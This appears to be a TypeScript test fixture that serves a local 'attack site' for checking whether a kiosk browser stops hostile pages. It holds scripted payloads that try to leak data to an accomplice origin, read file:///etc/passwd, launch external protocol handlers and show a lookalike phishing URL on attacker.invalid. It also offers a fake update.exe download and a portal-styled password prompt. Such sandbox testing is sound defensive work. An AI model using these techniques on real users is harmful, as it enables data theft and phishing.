import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

/**
 * A real application that means ill, with its own sign-in (listed) and an accomplice elsewhere (not listed). Its page has
 * a button for each attack; what a page can learn of its outcome, it writes under them.
 */
export interface AttackSite {
  readonly address: string;
  /** A second origin, which is on the application's list. */
  readonly login: string;
  readonly accomplice: string;
  /** What was asked of the accomplice: whatever arrives there has got out. */
  readonly escaped: readonly string[];
  /** What was asked of the application's own origins. */
  readonly requests: readonly string[];
  /** What was asked. */
  forget(): void;
  close(): void;
}

/** Where the kiosk's own things answer, which the page is told. */
export interface Targets {
  readonly portal: string;
  readonly bundled: string;
}

interface Attack {
  readonly name: string;
  readonly script: string;
}

type Places = Targets & Pick<AttackSite, 'address' | 'login' | 'accomplice'>;

const go = (how: string, address: string): Attack => ({ name: how, script: `location.assign('${address}')` });
const click = (how: string, attributes: string): Attack => ({
  name: how,
  script: `document.body.insertAdjacentHTML('beforeend', '<a id="bait" ${attributes}>bait</a>');
    const bait = document.getElementById('bait'); bait.click(); bait.remove();`,
});
const frame = (what: string, address: string): Attack => ({
  name: `frame with ${what}`,
  script: `const inner = document.createElement('iframe'); inner.title = '${what}'; inner.src = '${address}'; document.body.append(inner);`,
});
const popUp = (what: string, address: string): Attack => ({
  name: `pop-up with ${what}`,
  script: `say(String(window.open('${address}')))`,
});
const learn = (what: string, expression: string): Attack => ({
  name: what,
  script: `try { say(String(await (${expression}))); } catch (error) { say('refused: ' + error.name); }`,
});
const ask = (what: string, address: string): Attack =>
  learn(
    `request to ${what}`,
    `fetch('${address}', { mode: 'no-cors', credentials: 'include' }).then(() => 'answered')`,
  );

export const attacks = {
  leaving: ({ accomplice, address }: Places) => [
    click('link', `href="${accomplice}/link"`),
    click('link to the whole window', `target="_top" href="${accomplice}/top"`),
    click('link that is redirected', 'href="/to-accomplice"'),
    click('link that pings', `href="#here" ping="mailto:${accomplice}"`),
    go('script', `${accomplice}/script`),
    go('script with a user name', `${accomplice.replace('//', '//localhost@')}/user`),
    go('data', 'data:text/html,<title>data</title>'),
    go('file', 'file:///etc/passwd'),
    go('network path', '\\\\\\\\attacker.invalid\\\\share'),
    go('source', `view-source:${address}`),
    {
      name: 'form',
      script: `document.body.insertAdjacentHTML('beforeend', '<form id="trap" method="post" action="${accomplice}/form"></form>');
        document.getElementById('trap').submit();`,
    },
    {
      name: 'refresh',
      script: `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=${accomplice}/refresh">')`,
    },
  ],
  callingPrograms: () => [
    go('bar', 'kiosk://bar/'),
    go('desk', 'kiosk://desk/'),
    go('mail', 'mailto:someone@attacker.invalid'),
    go('telephone', 'tel:18003489158'),
    go('program', 'ms-word:ofe|u|https://attacker.invalid/x.docx'),
    go('settings', 'ms-settings:privacy'),
  ],
  framing: ({ accomplice, portal, bundled }: Places) => [
    frame('the accomplice', `${accomplice}/frame`),
    frame('a redirect to the accomplice', '/to-accomplice'),
    frame('the portal', `${portal}/`),
    frame('a bundled application', `${bundled}/`),
    frame('a file', 'file:///etc/passwd'),
    frame('data', 'data:text/html,<title>data</title>'),
    frame('the desk', 'kiosk://desk/'),
  ],
  openingWindows: ({ accomplice, portal, address }: Places) => [
    popUp('the accomplice', `${accomplice}/pop-up`),
    popUp('nothing', 'about:blank'),
    popUp('a script', 'javascript:1'),
    popUp('itself', address),
    popUp('the portal', portal),
    popUp('a file', 'file:///etc/passwd'),
    popUp('another program', 'ms-settings:privacy'),
    popUp('a page like the Forms page', 'https://www.dshs.texas.gov.attacker.invalid/immunize/immtrac/forms.shtm'),
  ],
  asking: ({ accomplice, portal, bundled }: Places) => [
    ask('the accomplice', `${accomplice}/asked`),
    ask('the portal', `${portal}/api/session`),
    ask('a bundled application', `${bundled}/api/place`),
    ask('this machine by number', `${accomplice.replace('127.0.0.1', '2130706433')}/number`),
    ask('this machine in IPv6', `${accomplice.replace('127.0.0.1', '[::ffff:7f00:1]')}/six`),
    ask('a name of this network', 'http://printer/'),
    ask('a file', 'file:///etc/passwd'),
    ask('the desk', 'kiosk://desk/'),
    learn(
      'picture from the portal',
      `new Promise((done) => { const image = new Image(); image.onload = () => done('answered'); image.onerror = () => done('refused: picture'); image.src = '${portal}/favicon.svg'; })`,
    ),
    learn(
      'socket to the accomplice',
      `new Promise((done) => { const socket = new WebSocket('${accomplice.replace('http', 'ws')}'); socket.onopen = () => done('answered'); socket.onerror = () => done('refused: socket'); })`,
    ),
    learn('note that is left behind', `Promise.resolve(navigator.sendBeacon('${accomplice}/beacon', 'x'))`),
  ],
  permissions: () => [
    learn(
      'place',
      'new Promise((done) => navigator.geolocation.getCurrentPosition(done, ({ code }) => done("refused: " + code)))',
    ),
    learn('notification', 'Notification.requestPermission().then((answer) => "refused: " + answer)'),
    learn('camera', 'navigator.mediaDevices.getUserMedia({ video: true })'),
    learn('microphone', 'navigator.mediaDevices.getUserMedia({ audio: true })'),
    learn('screen', 'navigator.mediaDevices.getDisplayMedia()'),
    learn('clipboard', 'navigator.clipboard.readText()'),
    learn('music', 'navigator.requestMIDIAccess()'),
    learn('absence', 'new IdleDetector().start()'),
  ],
} as const satisfies Record<string, (places: Places) => readonly Attack[]>;

export type AttackKind = keyof typeof attacks;

export async function startAttackSite(targets: () => Targets): Promise<AttackSite> {
  const [requests, escaped]: string[][] = [[], []];
  const answer = (request: IncomingMessage, response: ServerResponse) => {
    const { pathname } = new URL(request.url ?? '/', address);
    requests!.push(`${request.headers.host?.split(':')[0]} ${pathname}`);
    if (pathname === '/to-accomplice') return response.writeHead(302, { location: `${accomplice}/redirected` }).end();
    if (pathname === '/to-login') return response.writeHead(302, { location: `${login}/login` }).end();
    if (pathname === '/password')
      return response.writeHead(401, { 'www-authenticate': 'Basic realm="The Enterprise Portal"' }).end('no');
    if (pathname === '/download')
      return response.writeHead(200, { 'content-disposition': 'attachment; filename="update.exe"' }).end('MZ');
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    if (pathname !== '/') return response.end(`<!doctype html><title>${pathname}</title><h1>${pathname}</h1>`);
    return response.end(page({ ...targets(), address, login, accomplice }));
  };
  const own = await listening(answer);
  const signIn = await listening(answer);
  const other = await listening((request, response) => {
    escaped!.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' });
    response.end('<!doctype html><title>accomplice</title>');
  });
  other.server.on('upgrade', (_request, socket) => {
    escaped!.push('socket');
    socket.destroy();
  });
  // Another host than the portal's, because cookies do not tell ports apart.
  const address = `http://localhost:${own.port}/`;
  const login = `http://localhost:${signIn.port}`;
  const accomplice = `http://127.0.0.1:${other.port}`;
  const close = () => [own, signIn, other].forEach(({ server }) => [server.closeAllConnections(), server.close()]);
  const forget = () => [requests!, escaped!].forEach((list) => list.splice(0));
  return { address, login, accomplice, requests: requests!, escaped: escaped!, forget, close };
}

async function listening(answer: (request: IncomingMessage, response: ServerResponse) => unknown) {
  const server: Server = createServer(answer);
  await new Promise<void>((done) => server.listen(0, done));
  return { server, port: (server.address() as AddressInfo).port };
}

function page(places: Places): string {
  const all = Object.values(attacks).flatMap((list): readonly Attack[] => list(places));
  const buttons = all.map(({ name }, index) => `<button data-attack="${index}">${name}</button>`);
  const scripts = all.map(({ script }) => `async (say) => { ${script} }`);
  return `<!doctype html><html lang="en"><title>Real VAOS</title><h1>Real VAOS</h1>
<a href="/next">Next page</a> <a href="/to-login">Sign in</a> ${buttons.join(' ')} <output></output>
<script>
const attacks = [${scripts.join(',\n').replaceAll('</script', '<\\/script')}];
const output = document.querySelector('output');
document.addEventListener('click', ({ target }) => {
  const index = target.dataset?.attack;
  if (index === undefined) return;
  output.textContent = '';
  attacks[index]((text) => { output.textContent = text; });
});
</script>`;
}
